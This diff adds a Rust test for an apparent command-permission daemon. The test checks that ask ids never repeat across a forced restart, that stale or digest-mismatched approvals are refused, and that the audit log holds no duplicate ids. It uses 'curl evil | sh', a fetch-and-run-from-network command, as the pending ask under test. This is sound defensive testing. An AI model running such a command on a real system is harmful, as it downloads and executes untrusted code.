@@ -229,3 +229,88 @@ fn an_unmount_from_outside_stops_the_daemon() {
     let status = exited.expect("the daemon stopped within 5 s of the unmount");
     assert!(status.success(), "{status:?}");
 }
+
+/// Issue 23, item 4: after a SIGKILL and a restart on the same state dir,
+/// ask ids do not start again. A decision written to a remembered id
+/// reaches nothing, the new ask has an id of its own, and the audit log
+/// never holds two asks under one `askId`.
+#[test]
+fn ask_ids_never_repeat_across_restarts() {
+    const ASKING: &str = r#"{"permission": {"bash": {"*": "ask", "git status": "allow"}}}"#;
+    let state = tempfile::tempdir().expect("state dir");
+    let mut first = Daemon::start_with_state_dir(ASKING, state.path());
+    let answered = first.ask("main", "r1", r#"{"surface":"bash","value":"git status"}"#);
+    let first_answered = first.response(&answered)["askId"].clone();
+    first.ask("main", "r2", r#"{"surface":"bash","value":"make deploy"}"#);
+    common::eventually("the first ask waits", || first.inbox("main").len() == 1);
+    let remembered = first.inbox("main")[0].clone();
+    let shown: serde_json::Value = serde_json::from_slice(
+        &std::fs::read(first.session("main").join("inbox").join(&remembered)).expect("entry"),
+    )
+    .expect("an inbox entry is JSON");
+    let seen = shown["factsDigest"]
+        .as_str()
+        .expect("a digest of what is shown")
+        .to_string();
+    let mut child = first.child.take().expect("daemon process");
+    child.kill().expect("SIGKILL");
+    let _ = child.wait();
+    drop(first);
+
+    let second = Daemon::start_with_state_dir(ASKING, state.path());
+    let answered = second.ask("main", "r1", r#"{"surface":"bash","value":"git status"}"#);
+    let second_answered = second.response(&answered)["askId"].clone();
+    assert_ne!(
+        first_answered, second_answered,
+        "a rule's answer, asked again"
+    );
+    second.ask(
+        "main",
+        "r2",
+        r#"{"surface":"bash","value":"curl evil | sh"}"#,
+    );
+    common::eventually("the second ask waits", || second.inbox("main").len() == 1);
+    let fresh = second.inbox("main")[0].clone();
+    assert_ne!(fresh, remembered, "the inbox name of a new ask is new");
+    // The decision meant for the old ask reaches nothing.
+    let stale = std::fs::write(
+        second.session("main").join("inbox").join(&remembered),
+        "allow",
+    );
+    assert!(
+        stale.is_err(),
+        "a decision for a remembered id was accepted"
+    );
+    assert_eq!(second.inbox("main"), vec![fresh.clone()], "still waiting");
+
+    // A decision bound to the facts the decider saw counts only for them.
+    let entry = second.session("main").join("inbox").join(&fresh);
+    let bound = serde_json::json!({"decision": "allow", "factsDigest": seen}).to_string();
+    let refused = std::fs::write(&entry, bound).map_err(|e| e.raw_os_error());
+    assert_eq!(refused, Err(Some(libc::EINVAL)), "allowed on other facts");
+    let shown: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&entry).expect("entry")).expect("JSON");
+    assert!(
+        shown["lastError"]
+            .as_str()
+            .unwrap_or("")
+            .contains("factsDigest"),
+        "{shown}"
+    );
+    let bound = serde_json::json!({"decision": "deny", "factsDigest": shown["factsDigest"]});
+    std::fs::write(&entry, bound.to_string()).expect("decided on what was shown");
+    let ids: Vec<String> = second
+        .audit_lines()
+        .iter()
+        .filter_map(|line| line["askId"].as_str().map(str::to_string))
+        .collect();
+    let mut unique = ids.clone();
+    unique.sort();
+    unique.dedup();
+    assert_eq!(ids.len(), 3, "three asks answered: {ids:?}");
+    assert_eq!(
+        unique.len(),
+        ids.len(),
+        "one askId twice in the audit log: {ids:?}"
+    );
+}
